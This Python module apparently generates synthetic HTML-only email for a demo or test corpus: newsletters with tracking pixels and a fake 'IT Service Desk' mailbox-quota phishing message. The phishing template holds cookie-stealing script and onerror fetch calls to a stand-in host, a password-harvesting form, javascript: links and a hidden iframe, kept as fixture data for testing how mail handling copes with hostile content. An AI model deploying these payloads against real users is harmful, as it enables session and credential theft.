"""HTML-only mail: newsletters with remote images and tracking pixels, and hostile HTML
(scripts, event handlers, ``javascript:`` links, frames) of the kind phishing leaves in troves."""

from __future__ import annotations

from dossier.demo.context import Context, Conversation
from dossier.demo.mime import text_part
from dossier.demo.people import BY_ADDRESS, Org, Person, firm_staff

PHISH = Person(
    "IT Service Desk",
    "it-support@helpdesk.example.net",
    Org("phish", "Service Desk", "helpdesk.example.net", 0, "en"),
    "",
    "alt",
)

NEWSLETTER = """\
<html><head><style>body {{ font-family: Georgia }}</style></head><body>
<table width="600"><tr><td>
<img src="https://cdn.brightwater.example.org/banner-{n}.png" alt="Brightwater Institute">
<h1>Brightwater Briefing no. {n}</h1>
<p>This week: {topic}. Our fellows discuss what it means for trade and security.</p>
<p><a href="https://brightwater.example.org/briefing/{n}?utm_source=mail">Read online</a>
 | <a href="https://brightwater.example.org/unsubscribe?u={n}">Unsubscribe</a></p>
<img src="https://track.example.net/open.gif?id={n}" width="1" height="1">
</td></tr></table></body></html>"""

HOSTILE = """\
<html><head><meta http-equiv="refresh" content="30;url=javascript:alert(1)">
<base href="https://helpdesk.example.net/">
<script>document.location='https://helpdesk.example.net/steal?c='+document.cookie</script>
</head><body onload="init()">
<p>Dear user,</p>
<p>Your mailbox has exceeded its storage limit ({n}). To keep receiving mail,
<a href="javascript:window.open('https://helpdesk.example.net/login')">validate your account</a>
within 24 hours.</p>
<img src="x" onerror="fetch('https://helpdesk.example.net/p?'+document.cookie)">
<iframe src="https://helpdesk.example.net/frame" width="0" height="0"></iframe>
<form action="https://helpdesk.example.net/collect" method="post">
<input name="password" type="password"><input type="submit" value="Validate"></form>
<div style="background:url(javascript:alert(2))">IT Service Desk</div>
<object data="https://helpdesk.example.net/x.swf"></object>
</body></html>"""

TOPICS = (
    "port congestion in Rotterdam",
    "fuel subsidies",
    "election season in Mexico",
    "shipping insurance rates",
    "grain exports",
    "the new customs code",
)


def newsletter(ctx: Context, n: int) -> Conversation:
    """An HTML-only newsletter with remote images and a tracking pixel."""
    conv = ctx.conv()
    sender = BY_ADDRESS["newsletter@brightwater.example.org"]
    topic = TOPICS[n % len(TOPICS)]
    html = NEWSLETTER.format(n=n, topic=topic)
    subject = ctx.subjects.claim(f"Brightwater Briefing no. {n}: {topic}")
    mail = ctx.composer.compose(
        conv=conv,
        sender=sender,
        to=[ctx.rng.choice(firm_staff())],
        subject=subject,
        when=ctx.start(),
        body=text_part(html, "html"),
        uncertain=html,
        features=("html-only", "remote-images"),
    )
    return Conversation([mail])


def hostile(ctx: Context, n: int) -> Conversation:
    """An HTML-only phishing message full of active content."""
    conv = ctx.conv()
    html = HOSTILE.format(n=f"{90 + n % 10}%")
    subject = ctx.subjects.claim(f"Mailbox quota warning (ticket {4400 + n})")
    mail = ctx.composer.compose(
        conv=conv,
        sender=PHISH,
        to=[ctx.rng.choice(firm_staff())],
        subject=subject,
        when=ctx.start(),
        body=text_part(html, "html"),
        uncertain=html,
        features=("html-only", "hostile-html"),
    )
    return Conversation([mail])


def html_mail(ctx: Context, count: int) -> list[Conversation]:
    """``count`` HTML-only messages, a third of them hostile."""
    return [hostile(ctx, n) if n % 3 == 2 else newsletter(ctx, n + 1) for n in range(count)]
